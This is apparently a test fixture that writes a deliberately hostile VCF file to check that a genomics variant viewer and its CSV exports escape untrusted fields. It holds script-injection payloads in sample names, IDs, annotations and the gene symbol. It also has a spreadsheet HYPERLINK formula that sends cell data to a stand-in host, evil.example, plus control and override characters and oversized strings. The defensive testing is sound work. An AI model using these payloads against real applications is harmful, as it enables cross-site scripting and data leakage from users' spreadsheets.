// A VCF made to attack the page that shows it and the files exported from
// it: every field a file fills (sample names, ID, FILTER, INFO, header
// descriptions, annotation fields, even the gene symbol) carries markup,
// script, a javascript: URL, spreadsheet formulas, control characters or a
// very long string. Written by the test, so the payloads and the checks are
// read side by side. Each payload that would run sets window.__tolkPwned.
import { writeFileSync } from "node:fs";

export const PAYLOADS = {
  script: `<script>window.__tolkPwned="script"</script>`,
  img: `<img src=x onerror="window.__tolkPwned='img'">`,
  svg: `<svg onload="window.__tolkPwned='svg'">`,
  href: `javascript:window.__tolkPwned='href'`,
  markdown: `[click](javascript:window.__tolkPwned='md')`,
  // A spreadsheet would run it on opening a CSV holding it.
  formula: `=HYPERLINK("http://evil.example/?"&A1,"Open")`,
  // BEL, ESC and a right-to-left override that reverses what follows.
  control: `bell\x07 esc\x1b[31m rlo\u202Eevil`,
};

/** Sample names: the proband's is markup, the parents' a formula and a URL. */
export const SAMPLES = [PAYLOADS.img, PAYLOADS.formula, `${PAYLOADS.href} ${PAYLOADS.control}`];

/** The gene symbol of the hostile record (it reaches tables, charts and notes). */
export const GENE = `<b onmouseover="window.__tolkPwned='gene'">SCN1A</b>`;
/** The length of the long ID and HGVSc. */
const LONG = 100_000;

const csqFields =
  "Allele|Consequence|IMPACT|SYMBOL|Gene|Feature_type|Feature|BIOTYPE|EXON|INTRON|HGVSc|HGVSp|cDNA_position|CDS_position|Protein_position|Amino_acids|Codons|Existing_variation|DISTANCE|STRAND|FLAGS|SYMBOL_SOURCE|HGNC_ID|CANONICAL|MANE_SELECT|gnomADe_AF|MAX_AF|CLIN_SIG|REVEL|CADD_PHRED";

/** A CSQ entry: `|` and `,` cannot be inside a field, so those payloads stay out of CSQ. */
function csq(fields) {
  const names = csqFields.split("|");
  return names.map((n) => fields[n] ?? "").join("|");
}

export function writeHostileVcf(path) {
  const head = [
    "##fileformat=VCFv4.2",
    `##source=${PAYLOADS.script}`,
    "##reference=GRCh38",
    `##INFO=<ID=NOTE,Number=1,Type=String,Description="${PAYLOADS.img.replaceAll('"', "'")}">`,
    '##INFO=<ID=LONG,Number=1,Type=String,Description="A very long value">',
    `##INFO=<ID=CSQ,Number=.,Type=String,Description="Consequence annotations from Ensembl VEP. Format: ${csqFields}">`,
    '##FORMAT=<ID=GT,Number=1,Type=String,Description="Genotype">',
    '##FORMAT=<ID=DP,Number=1,Type=Integer,Description="Read depth">',
    `#CHROM\tPOS\tID\tREF\tALT\tQUAL\tFILTER\tINFO\tFORMAT\t${SAMPLES.join("\t")}`,
  ];
  const hostile = csq({
    Allele: "T",
    Consequence: `missense_variant&${PAYLOADS.svg.replaceAll(" ", "_")}`,
    IMPACT: "MODERATE",
    SYMBOL: GENE,
    Feature_type: "Transcript",
    Feature: PAYLOADS.script,
    BIOTYPE: "protein_coding",
    HGVSc: `${PAYLOADS.img}:c.4547G>A`,
    HGVSp: `${PAYLOADS.href}:p.Arg1516Gln`,
    Protein_position: "1516/2009",
    Existing_variation: PAYLOADS.markdown,
    HGNC_ID: "HGNC:10585",
    CANONICAL: "YES",
    MANE_SELECT: PAYLOADS.control,
    CLIN_SIG: PAYLOADS.script,
    REVEL: "0.942",
    CADD_PHRED: "32",
  });
  const long = csq({
    Allele: "A",
    Consequence: "stop_gained",
    IMPACT: "HIGH",
    SYMBOL: "KCNQ2",
    Feature_type: "Transcript",
    Feature: "ENST00000359125",
    HGVSc: `ENST00000359125.7:c.${"A".repeat(LONG)}`,
    HGVSp: "ENSP00000352035.2:p.Arg213Ter",
    Protein_position: "213/872",
  });
  const rows = [
    [
      "chr2", "166003512", PAYLOADS.script, "C", "T", "812", `<i>${PAYLOADS.formula}</i>`,
      `NOTE=${PAYLOADS.img};LONG=${"Z".repeat(1_000_000)};CSQ=${hostile}`,
      "GT:DP", "0/1:48", "0/0:41", "0/0:39",
    ],
    [
      "chr20", "63413452", "x".repeat(LONG), "G", "A", "500", "PASS",
      `NOTE=${PAYLOADS.control};CSQ=${long}`,
      "GT:DP", "0/1:40", "0/0:38", "0/0:35",
    ],
  ];
  writeFileSync(path, [...head, ...rows.map((r) => r.join("\t"))].join("\n") + "\n");
}
